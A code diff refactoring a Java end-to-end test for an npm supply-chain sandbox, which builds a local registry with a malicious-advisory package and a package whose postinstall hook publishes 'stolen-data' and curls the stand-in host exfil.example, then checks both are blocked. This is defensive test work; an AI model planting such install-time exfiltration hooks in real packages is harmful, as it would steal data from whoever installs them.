@@ -4,19 +4,14 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-import dev.berth.engine.TestPki;
-import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.nio.file.attribute.PosixFilePermissions;
 import java.time.Instant;
 import java.time.temporal.ChronoUnit;
 import java.util.List;
 import java.util.Map;
-import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.TestInstance;
 import tools.jackson.databind.JsonNode;
 
 /**
@@ -29,66 +24,31 @@ import tools.jackson.databind.JsonNode;
  * what was hidden and why ({@code egress_filtered}) and the hook's publish and call-out as denials, and the registry
  * never receives the publish.
  */
-@TestInstance(TestInstance.Lifecycle.PER_CLASS)
-abstract class AbstractNpmSupplyChainE2eTest {
-    /** The isolation level (and image) the suite runs on. */
-    abstract ToolsImage level();
-
+abstract class AbstractNpmSupplyChainE2eTest extends AbstractRealClientE2eTest {
     static final Instant OLD = Instant.parse("2020-03-04T05:06:07Z");
     static final Instant FRESH = Instant.now().minus(2, ChronoUnit.HOURS).truncatedTo(ChronoUnit.MILLIS);
 
-    Path dir;
     VerdaccioRegistry registry;
-    McpBridge mcp;
 
     @BeforeAll
     void start() throws Exception {
-        dir = Files.createTempDirectory("berth-npm-e2e-");
-        Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwx--x--x"));
-        TestPki.LocalhostFiles tls = TestPki.localhost(dir);
-        Path cert = tls.cert();
-        Path key = tls.key();
-        Path root = tls.root();
+        prepare("npm");
         String hook = "curl -sS -m 20 -X PUT -H 'content-type: application/json' --data '{\"name\":\"stolen-data\",\"versions\":{}}'"
                 + " https://localhost:%PORT%/stolen-data > /workspace/hook-publish.txt 2>&1;"
                 + " curl -sS -m 20 https://exfil.example/collect > /workspace/hook-callout.txt 2>&1; true";
-        registry = VerdaccioRegistry.start(dir.resolve("verdaccio"), cert, key, List.of(
+        registry = serve(VerdaccioRegistry.start(dir.resolve("verdaccio"), tls.cert(), tls.key(), List.of(
                 new VerdaccioRegistry.Version("leftish", "1.0.0", OLD, Map.of()),
                 new VerdaccioRegistry.Version("leftish", "1.1.0", FRESH, Map.of()),
                 new VerdaccioRegistry.Version("badpkg", "1.0.0", OLD, Map.of()),
                 new VerdaccioRegistry.Version("badpkg", "1.0.1", OLD.plus(1, ChronoUnit.DAYS), Map.of()),
-                new VerdaccioRegistry.Version("hooked", "1.0.0", OLD, Map.of("scripts", Map.of("postinstall", hook)))));
+                new VerdaccioRegistry.Version("hooked", "1.0.0", OLD, Map.of("scripts", Map.of("postinstall", hook))))));
         Path osv = Files.createDirectories(dir.resolve("osv"));
         Files.writeString(osv.resolve("MAL-2026-4242.json"), """
                 {"id":"MAL-2026-4242","summary":"Malicious code in badpkg (npm)",
                  "affected":[{"package":{"ecosystem":"npm","name":"badpkg"},"versions":["1.0.1"]}]}""");
-        String config = """
-                {"egress": {
-                   "allow": [{"host": "localhost", "ports": [443, %1$d]}],
-                   "tls": {"upstreamTrust": ["%2$s"], "ports": [443, %1$d]},
-                   "registryRules": {"npm": {"hosts": ["localhost"], "minReleaseAgeDays": 7}},
-                   "advisories": "%3$s",
-                   "unsafe": {"unsafeAllowLoopbackUpstreams": true}}}
-                """.formatted(registry.port, root, osv);
-        Path cfg = dir.resolve("berth.json");
-        Files.writeString(cfg, config);
-        Path home = Files.createDirectories(dir.resolve("home"));
-        level().prepare(home);
-        mcp = McpBridge.stdio(home, level().args("--config", cfg.toString()));
-        mcp.connect();
-    }
-
-    @AfterAll
-    void stop() throws IOException {
-        if (mcp != null) mcp.close();
-        if (registry != null) registry.close();
-        dev.berth.engine.spi.Trees.delete(dir);
-    }
-
-    JsonNode ok(String tool, Map<String, Object> args) throws IOException {
-        JsonNode sc = mcp.ok(tool, args);
-        SchemaCheck.assertValid(tool, sc);
-        return sc;
+        startBerth(registry.port, """
+                "registryRules": {"npm": {"hosts": ["localhost"], "minReleaseAgeDays": 7}},
+                "advisories": "%s\"""".formatted(osv));
     }
 
     @Test
